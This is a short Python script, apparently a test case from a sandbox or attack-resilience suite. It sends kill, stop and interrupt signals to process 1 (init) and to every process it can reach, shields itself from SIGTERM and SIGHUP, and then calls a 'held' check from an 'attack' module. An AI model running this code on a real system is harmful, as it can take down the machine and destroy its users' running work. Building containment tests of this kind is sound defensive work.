# Kills, stops and interrupts process 1 and every process that it may.
import os
import signal
import time

from attack import held

for number in (9, 19, 15, 2, 1, 6, 11, 31):
    try:
        os.kill(1, number)
    except OSError:
        pass
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
for number in (15, 1):
    try:
        os.kill(-1, number)
    except OSError:
        pass
time.sleep(0.1)
held()
